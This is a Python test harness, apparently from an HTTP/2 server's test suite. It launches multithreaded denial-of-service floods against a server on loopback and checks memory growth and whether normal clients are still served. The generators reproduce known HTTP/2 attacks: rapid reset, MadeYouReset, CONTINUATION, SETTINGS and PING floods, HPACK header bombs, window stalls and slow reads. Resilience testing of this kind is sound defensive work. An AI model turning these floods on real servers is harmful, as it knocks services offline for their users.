#!/usr/bin/python3
"""Floods over HTTP/2, each as what one attacker sends on one connection; whoever is hung up on comes back.

    floods.py NAME PORT ATTACKERS SECONDS SEED      attacks, and tells how many connections were begun and closed, and how much was sent

They are an own process, so that whoever measures what others notice does not measure the attackers' interpreter.
"""

import dataclasses
import pathlib
import random
import socket
import subprocess
import sys
import threading
import time
import types

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "integration")]

import frames  # noqa: E402
from frames import (INITIAL_WINDOW_SIZE, PRIORITY, continuation, data, frame, headers, indexed, literal, ping, priority,  # noqa: E402
                    remembered, reset, settings, window_update)
from peer import Peer  # noqa: E402

LARGEST = (1 << 31) - 1
AT_ONCE = 50        # streams or frames in one write


@dataclasses.dataclass
class Flood:
    octets: object              # (requests, dice) -> what is sent, part by part
    settings: tuple = ()        # of the attacker
    reads: bool = False         # what it is sent; the others read nothing at all
    buffer: int = 0             # of its socket, where that matters


def streams(first=1):
    return range(first, LARGEST, 2)


def in_parts(each):
    """So many at once, for ever."""
    part = b""
    for count, octets in enumerate(each, 1):
        part += octets
        if count % AT_ONCE == 0:
            yield part
            part = b""
    yield part


def rapid_reset(to, dice):
    """CVE-2023-44487: requests that are taken back at once."""
    return in_parts(to.get(stream, path="/slow/1000") + reset(stream) for stream in streams())


def made_you_reset(to, dice):
    """CVE-2025-8671: the server is made to reset, while the application works on."""
    def provoke(stream):
        begun = to.get(stream, path="/slow/1000") if dice.random() < 0.8 else to.post(stream, ("content-length", "1"), path="/slow/1000")
        return begun + dice.choice((window_update(stream, 0), data(stream, b"beyond the end"), window_update(stream, LARGEST),
                                    headers(stream, to.asked()), frame(PRIORITY, 0, stream, frames.struct.pack("!IB", stream, 15))))
    return in_parts(provoke(stream) for stream in streams())


def continuations(to, dice):
    """CVE-2024-27316 and its sisters: a block that never ends."""
    yield headers(1, to.asked(), flags=0)
    number = 0
    while True:
        part = b""
        for _ in range(AT_ONCE):
            number += 1
            part += continuation(1, literal(f"x-{number}", "v" * dice.choice((0, 10, 1000))), last=False)
        yield part


def settings_flood(to, dice):
    """CVE-2019-9515: each of them has to be acknowledged."""
    while True:
        yield b"".join(settings(*((INITIAL_WINDOW_SIZE, dice.randrange(1 << 16)) for _ in range(dice.randrange(3)))) for _ in range(AT_ONCE))


def pings(to, dice):
    """CVE-2019-9512: each of them has to be answered."""
    while True:
        yield b"".join(ping(dice.randbytes(8)) for _ in range(AT_ONCE))


def empty_frames(to, dice):
    """CVE-2019-9518: frames that cost a frame's work and move nothing."""
    yield to.post(1, path="/deaf")
    while True:
        yield data(1) * AT_ONCE


def header_bombs(to, dice):
    """Small blocks that become large: one entry of the table again and again, and cookies in crumbs."""
    for stream in streams():
        if stream % 4 == 1:
            yield headers(stream, to.asked() + remembered("x-bomb", "b" * 3900) + indexed(62) * 8000)
        else:
            yield headers(stream, to.asked() + remembered(32, "c=1") + indexed(62) * 12000)


def shut_windows(to, dice):
    """CVE-2019-9511, 9517: large replies are asked for, and no window opens for them."""
    yield b"".join(to.get(stream, path="/bytes/4000000") for stream in range(1, 200, 2))
    yield from idle()


def priorities(to, dice):
    """CVE-2019-9513: the tree of streams is turned over and over."""
    while True:
        yield b"".join(priority(2 * dice.randrange(1, 5000) + 1, 2 * dice.randrange(5000) + 1, dice.randrange(256)) for _ in range(AT_ONCE))


def slow_readers(to, dice):
    """Windows are wide open, and the socket is read octet by octet."""
    yield window_update(0, LARGEST - 65535) + b"".join(to.get(stream, path="/bytes/4000000") for stream in range(1, 200, 2))
    yield from idle()


def idle():
    while True:
        yield b""


FLOODS = {
    "rapid reset": Flood(rapid_reset),
    "MadeYouReset": Flood(made_you_reset),
    "CONTINUATION": Flood(continuations),
    "SETTINGS": Flood(settings_flood),
    "PING": Flood(pings),
    "empty frames": Flood(empty_frames),
    "header bomb": Flood(header_bombs, reads=True),
    "window stall": Flood(shut_windows, settings=((INITIAL_WINDOW_SIZE, 0),), reads=True),
    "priority": Flood(priorities),
    "slow read": Flood(slow_readers, settings=((INITIAL_WINDOW_SIZE, LARGEST),), buffer=4096),
}


class Attackers:
    """Threads, each with one connection at a time, until they are stopped."""

    def __init__(self, flood, port, count, seed):
        self.flood, self.server = flood, types.SimpleNamespace(plain_port=port)
        self.begun = self.closed = self.sent = 0
        self.stopping, self.lock = threading.Event(), threading.Lock()
        self.threads = [threading.Thread(target=self._attack, args=(number, random.Random(f"{seed} {number}"))) for number in range(count)]
        for each in self.threads:
            each.start()

    def stop(self):
        self.stopping.set()
        for each in self.threads:
            each.join()

    def _attack(self, number, dice):
        source = f"127.0.1.{1 + number % 250}"
        while not self.stopping.is_set():
            sent, closed = 0, True
            try:
                with Peer(self.server, settings=self.flood.settings, source=source) as peer:
                    sent, closed = self._flood(peer, dice)
            except OSError:
                pass        # turned away, or hung up on in the greeting
            with self.lock:
                self.begun, self.closed, self.sent = self.begun + 1, self.closed + closed, self.sent + sent
            self.stopping.wait(0.02)

    def _flood(self, peer, dice):
        """(how many octets went, whether the server hung up)"""
        peer.socket.settimeout(0.5)
        if self.flood.buffer:
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.flood.buffer)
        sent = 0
        for part in self.flood.octets(peer.to, dice):
            while part:
                if self.stopping.is_set():
                    return sent, False
                try:
                    went = peer.socket.send(part)
                except TimeoutError:        # nobody reads what we send: that is the server's way to say no
                    continue
                except OSError:
                    return sent, True
                sent, part = sent + went, part[went:]
            if not self._listen(peer, idle=not part):
                return sent, True
            if self.stopping.is_set():
                return sent, False
        return sent, False

    def _listen(self, peer, idle):
        """Whether the connection is still there, as far as this attacker looks."""
        if self.flood.reads:
            peer.read(0.05 if idle and self.flood.settings else 0)
            peer.socket.settimeout(0.5)
        elif self.flood.buffer:
            self.stopping.wait(0.1)
            try:
                return bool(peer.socket.recv(1))
            except TimeoutError:
                return True
            except OSError:
                return False
        return not peer.closed


class Running:
    """Attackers in a process of their own, from entering until leaving the block."""

    def __init__(self, name, port, attackers, seconds, seed):
        self.command = [sys.executable, __file__, name, str(port), str(attackers), str(seconds), str(seed)]

    def __enter__(self):
        self.process = subprocess.Popen(["nice", "-n", "5", *self.command], stdout=subprocess.PIPE, text=True)
        assert self.process.stdout.readline() == "attacking\n"
        return self

    def __exit__(self, *_):
        told, _ = self.process.communicate()
        self.begun, self.closed, self.sent = map(int, told.split())


class GoodClients:
    """Some that ask one thing after the other, each on one connection that it gives up only when it has to; their times in seconds."""

    def __init__(self, server, count=4, tls=False):
        self.server, self.tls, self.times, self.failed = server, tls, [], []
        self.stopping, self.lock = threading.Event(), threading.Lock()
        self.threads = [threading.Thread(target=self._ask, args=(f"127.0.0.{11 + number}",)) for number in range(count)]

    def _ask(self, source):
        try:
            with Peer(self.server, self.tls, grants=True, source=source) as peer:
                for stream in streams():
                    if self.stopping.is_set():
                        return
                    began = time.perf_counter()
                    reply = peer.ask(stream, patience=20)
                    with self.lock:
                        self.times.append(time.perf_counter() - began)
                        if reply.status != 200:
                            self.failed.append(f"{reply.status}, reset {reply.reset}, GOAWAY {peer.goaway}")
                    if peer.closed or peer.goaway is not None:
                        return
                    self.stopping.wait(0.005)
        except OSError as broken:
            self.failed.append(repr(broken))

    def __enter__(self):
        for each in self.threads:
            each.start()
        return self

    def __exit__(self, *_):
        self.stopping.set()
        for each in self.threads:
            each.join()


class Memory:
    """How much the program grew at most while the block ran."""

    def __init__(self, program):
        self.program, self.before = program, program.rss_kib()
        self.most, self.stopping = self.before, threading.Event()
        self.thread = threading.Thread(target=self._watch)

    def _watch(self):
        while not self.stopping.wait(0.01):
            self.most = max(self.most, self.program.rss_kib())

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stopping.set()
        self.thread.join()
        self.growth = self.most - self.before


def allowed_kib(attackers):
    """8 MiB a connection, and 64 MiB in all."""
    return min(8 * attackers, 64) << 10


@dataclasses.dataclass
class Outcome:
    growth: int         # KiB
    allowed: int
    answered: int
    failed: list
    begun: int
    closed: int
    sent: int

    def complaints(self):
        if self.growth > self.allowed:
            yield f"grew by {self.growth:,} KiB, more than {self.allowed:,}"
        if self.failed:
            yield f"{len(self.failed)} of the good clients' requests failed: {self.failed[0]}"
        if not self.answered:
            yield "the good clients were not answered at all"
        if not self.begun:
            yield "nobody attacked"


def endure(name, program, attackers, seconds, seed):
    """What came of one flood at a program that has served good clients before."""
    with GoodClients(program):
        time.sleep(0.3)
    with Memory(program) as memory, GoodClients(program) as good:
        with Running(name, program.plain_port, attackers, seconds, seed) as running:
            pass
    return Outcome(memory.growth, allowed_kib(attackers), len(good.times), good.failed, running.begun, running.closed, running.sent)


def main():
    name, port, count, seconds, seed = sys.argv[1:]
    attackers = Attackers(FLOODS[name], int(port), int(count), seed)
    print("attacking", flush=True)
    time.sleep(float(seconds))
    attackers.stop()
    print(attackers.begun, attackers.closed, attackers.sent)


if __name__ == "__main__":
    main()
